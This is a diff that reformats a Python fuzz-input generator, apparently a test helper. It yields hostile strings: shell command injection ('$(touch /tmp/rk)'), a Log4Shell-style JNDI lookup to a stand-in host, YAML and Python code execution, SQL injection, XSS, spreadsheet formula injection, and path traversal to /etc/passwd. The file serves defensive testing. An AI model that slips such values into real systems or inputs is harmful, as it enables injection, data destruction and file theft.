@@ -57,7 +57,19 @@ def _pairs() -> Iterator[str]:
 
 
 def _emoji() -> Iterator[str]:
-    yield from ("👨‍👩‍👧‍👦", "👩🏿‍❤️‍💋‍👨🏻", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇳🇱🇳🇱🇳", "👍🏽👍🏿🏿", "1️⃣#️⃣", "🫱🏻‍🫲🏿", "👁️‍🗨️", "🤦🏼‍♂️" * 20, "☠️", "😀" * 100)
+    yield from (
+        "👨‍👩‍👧‍👦",
+        "👩🏿‍❤️‍💋‍👨🏻",
+        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
+        "🇳🇱🇳🇱🇳",
+        "👍🏽👍🏿🏿",
+        "1️⃣#️⃣",
+        "🫱🏻‍🫲🏿",
+        "👁️‍🗨️",
+        "🤦🏼‍♂️" * 20,
+        "☠️",
+        "😀" * 100,
+    )
     yield from ("\u200d👩", "👩\u200d", "\ufe0f", "🏽", "💩\u0301")
 
 
@@ -86,51 +98,273 @@ def _line_ends() -> Iterator[str]:
 
 
 def _look_alikes() -> Iterator[str]:
-    yield from ("Jаn", "раураl", "Ｊａｎ", "𝕁𝕒𝕟", "Јаn ‹naam›", "rn m", "l1I|", "О0o", "ᎫᎪN", "ɑԁmіn", "S․ Jansen", "⁄⁄")
+    yield from (
+        "Jаn",
+        "раураl",
+        "Ｊａｎ",
+        "𝕁𝕒𝕟",
+        "Јаn ‹naam›",
+        "rn m",
+        "l1I|",
+        "О0o",
+        "ᎫᎪN",
+        "ɑԁmіn",
+        "S․ Jansen",
+        "⁄⁄",
+    )
     yield from ("−1", "１２３", "٣٤٥", "½ ²", "…", "‚‘’‛“”„‟", "＜script＞", "﹤b﹥", "；－－", "ﾠ", "︵︶", "⅓⅔")
 
 
 def _templates() -> Iterator[str]:
-    for body in ("7*7", "7 * 7", "config", "''.__class__.__mro__", "self._TemplateReference__context", "r.head", "x|safe"):
+    for body in (
+        "7*7",
+        "7 * 7",
+        "config",
+        "''.__class__.__mro__",
+        "self._TemplateReference__context",
+        "r.head",
+        "x|safe",
+    ):
         yield from (f"{{{{{body}}}}}", f"${{{body}}}", f"#{{{body}}}", f"<%= {body} %>", f"{{% print({body}) %}}")
         yield from (f"[[{body}]]", f"@({body})", f"{{{body}}}", f"`{body}`")
-    yield from ("{% for a in r %}x{% endfor %}", "{% include '/etc/passwd' %}", "{% raw %}", "{# weg #}", "{{", "}}", "{%")
-    yield from ("%s%n%x%d", "%(naam)s", "%%", "%1", "%n", "{0}", "{naam}", "{0.__class__}", "{cap}", "{name}", "{}{}{}", "%1$s")
-    yield from ("&amp;", "&lt;b&gt;", "&#38;", "&#x26;", "&nbsp;", "&eacute;", "&x;", "& &", "]]>", "<![CDATA[x]]>", "<?xml?>")
-    yield from ("${jndi:ldap://x.example/a}", "$(touch /tmp/rk)", "`touch /tmp/rk`", "| touch /tmp/rk", "&& touch /tmp/rk")
+    yield from (
+        "{% for a in r %}x{% endfor %}",
+        "{% include '/etc/passwd' %}",
+        "{% raw %}",
+        "{# weg #}",
+        "{{",
+        "}}",
+        "{%",
+    )
+    yield from (
+        "%s%n%x%d",
+        "%(naam)s",
+        "%%",
+        "%1",
+        "%n",
+        "{0}",
+        "{naam}",
+        "{0.__class__}",
+        "{cap}",
+        "{name}",
+        "{}{}{}",
+        "%1$s",
+    )
+    yield from (
+        "&amp;",
+        "&lt;b&gt;",
+        "&#38;",
+        "&#x26;",
+        "&nbsp;",
+        "&eacute;",
+        "&x;",
+        "& &",
+        "]]>",
+        "<![CDATA[x]]>",
+        "<?xml?>",
+    )
+    yield from (
+        "${jndi:ldap://x.example/a}",
+        "$(touch /tmp/rk)",
+        "`touch /tmp/rk`",
+        "| touch /tmp/rk",
+        "&& touch /tmp/rk",
+    )
 
 
 def _markup() -> Iterator[str]:
-    tags = ("para", "b", "i", "br/", "h1", "p", "cell", "row", "table", "title", "document", "sealfield", "pagebreak/", "font")
+    tags = (
+        "para",
+        "b",
+        "i",
+        "br/",
+        "h1",
+        "p",
+        "cell",
+        "row",
+        "table",
+        "title",
+        "document",
+        "sealfield",
+        "pagebreak/",
+        "font",
+    )
     for tag in tags:
         yield f"<{tag}>"
         yield f"</{tag}>"
         yield f"<{tag.strip('/')}>vet</{tag.strip('/')}>"
-    yield from ("<font size=500>groot", "<b>vet", "<h1>Jan", "<!-- weg -->", "<!DOCTYPE x [<!ENTITY a 'b'>]>", "<<", "<", ">")
+    yield from (
+        "<font size=500>groot",
+        "<b>vet",
+        "<h1>Jan",
+        "<!-- weg -->",
+        "<!DOCTYPE x [<!ENTITY a 'b'>]>",
+        "<<",
+        "<",
+        ">",
+    )
     yield from ('<img src="file:///etc/passwd">', "<img src='/etc/hostname'/>", '<img src="http://x.example/a.png">')
-    yield from ('<a href="javascript:alert(1)">klik</a>', "<script>alert(1)</script>", '<svg onload="x">', "<iframe src=x>")
+    yield from (
+        '<a href="javascript:alert(1)">klik</a>',
+        "<script>alert(1)</script>",
+        '<svg onload="x">',
+        "<iframe src=x>",
+    )
     yield from ('x" who="Moeder" stance="eens', "' tone='warning", '"/><p>ingevoegd</p>', "</p></cell></row></table>")
-    yield from ("<html><body bgcolor=red>", "<qt>rijk</qt>", "<style>*{color:red}</style>", "<object data=x>", "<ol><li>a")
-    yield from ("[klik](file:///etc/passwd)", "![beeld](http://x.example/a.png)", "# kop", "**vet**", "| a | b |\n|---|---|")
+    yield from (
+        "<html><body bgcolor=red>",
+        "<qt>rijk</qt>",
+        "<style>*{color:red}</style>",
+        "<object data=x>",
+        "<ol><li>a",
+    )
+    yield from (
+        "[klik](file:///etc/passwd)",
+        "![beeld](http://x.example/a.png)",
+        "# kop",
+        "**vet**",
+        "| a | b |\n|---|---|",
+    )
 
 
 def _languages() -> Iterator[str]:
-    yield from ('#read("/etc/passwd")', "#eval(\"1+1\")", "#import \"x.typ\"", "#let a = 49", "$ x^2 $", "#[vet]", "@label", "= kop")
-    yield from ("\\input{/etc/passwd}", "\\write18{touch /tmp/rk}", "\\def\\a{\\a\\a}", "\\\\", "\\u0041", "\\x41", "\\n", "$$")
-    yield from ("' OR '1'='1", "'; DROP TABLE event; --", '"; --', "1; DELETE FROM head", "' UNION SELECT text FROM kv --", "/*")
-    yield from ('" * NEAR', "NEAR(a b, 5)", "AND OR NOT", "a*", "^a", "a:b", "- a", '"', '""', "(", ")", "search : x", "{a b} : c")
-    yield from ("=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://x.example\")", "\t=1+1", "|calc")
-    yield from (";", "--", ",", "a,b;c\td", '"a"";"b"', "a\\,b", "#REF!", "0x10", "1e309", "NaN", "-0", "012", "no", "null", "~")
-    yield from ("!!python/object/apply:os.system [id]", "- a: b", "a: &x [*x]", "yes", "{a: b}", "--- ", "...", "? x", "*x", "%YAML")
-    yield from ("__import__('os').system('id')", "().__class__", "lambda: 0", "eval('7*7')", "javascript:alert(1)", "data:,x")
+    yield from (
+        '#read("/etc/passwd")',
+        '#eval("1+1")',
+        '#import "x.typ"',
+        "#let a = 49",
+        "$ x^2 $",
+        "#[vet]",
+        "@label",
+        "= kop",
+    )
+    yield from (
+        "\\input{/etc/passwd}",
+        "\\write18{touch /tmp/rk}",
+        "\\def\\a{\\a\\a}",
+        "\\\\",
+        "\\u0041",
+        "\\x41",
+        "\\n",
+        "$$",
+    )
+    yield from (
+        "' OR '1'='1",
+        "'; DROP TABLE event; --",
+        '"; --',
+        "1; DELETE FROM head",
+        "' UNION SELECT text FROM kv --",
+        "/*",
+    )
+    yield from (
+        '" * NEAR',
+        "NEAR(a b, 5)",
+        "AND OR NOT",
+        "a*",
+        "^a",
+        "a:b",
+        "- a",
+        '"',
+        '""',
+        "(",
+        ")",
+        "search : x",
+        "{a b} : c",
+    )
+    yield from (
+        "=cmd|' /C calc'!A0",
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        '=HYPERLINK("http://x.example")',
+        "\t=1+1",
+        "|calc",
+    )
+    yield from (
+        ";",
+        "--",
+        ",",
+        "a,b;c\td",
+        '"a"";"b"',
+        "a\\,b",
+        "#REF!",
+        "0x10",
+        "1e309",
+        "NaN",
+        "-0",
+        "012",
+        "no",
+        "null",
+        "~",
+    )
+    yield from (
+        "!!python/object/apply:os.system [id]",
+        "- a: b",
+        "a: &x [*x]",
+        "yes",
+        "{a: b}",
+        "--- ",
+        "...",
+        "? x",
+        "*x",
+        "%YAML",
+    )
+    yield from (
+        "__import__('os').system('id')",
+        "().__class__",
+        "lambda: 0",
+        "eval('7*7')",
+        "javascript:alert(1)",
+        "data:,x",
+    )
     yield from ("(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "[[:alpha:]]", "\\d{1000000}", ".*.*.*x")
-    yield from ("../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\Windows", "\\\\server\\map", "file:///etc/passwd", "CON", "NUL.pdf")
-    yield from ('{"a": "b"}', '","value":"x', "\\\"", '"}],"kind":"sealed', "BT /F1 12 Tf (x) Tj ET", "endstream endobj", "%PDF-1.7")
+    yield from (
+        "../../etc/passwd",
+        "..\\..\\x",
+        "/etc/passwd",
+        "C:\\Windows",
+        "\\\\server\\map",
+        "file:///etc/passwd",
+        "CON",
+        "NUL.pdf",
+    )
+    yield from (
+        '{"a": "b"}',
+        '","value":"x',
+        '\\"',
+        '"}],"kind":"sealed',
+        "BT /F1 12 Tf (x) Tj ET",
+        "endstream endobj",
+        "%PDF-1.7",
+    )
 
 
 def _sizes() -> Iterator[str]:
-    yield from (" ", "  ", "a", "-", "0", "x" * 255, "x" * 300, "woord " * 100, "é" * 500, "\u00e9" * 255, "W" * 1000, "." * 700)
-    yield from ("a b", " spatie voor en na ", "dubbel  spatie", "zin.zin.zin", "lang-woord-" * 40, "a/b/" * 60, "\\" * 64, "'" * 64)
+    yield from (
+        " ",
+        "  ",
+        "a",
+        "-",
+        "0",
+        "x" * 255,
+        "x" * 300,
+        "woord " * 100,
+        "é" * 500,
+        "\u00e9" * 255,
+        "W" * 1000,
+        "." * 700,
+    )
+    yield from (
+        "a b",
+        " spatie voor en na ",
+        "dubbel  spatie",
+        "zin.zin.zin",
+        "lang-woord-" * 40,
+        "a/b/" * 60,
+        "\\" * 64,
+        "'" * 64,
+    )
 
 
 FAMILIES = {
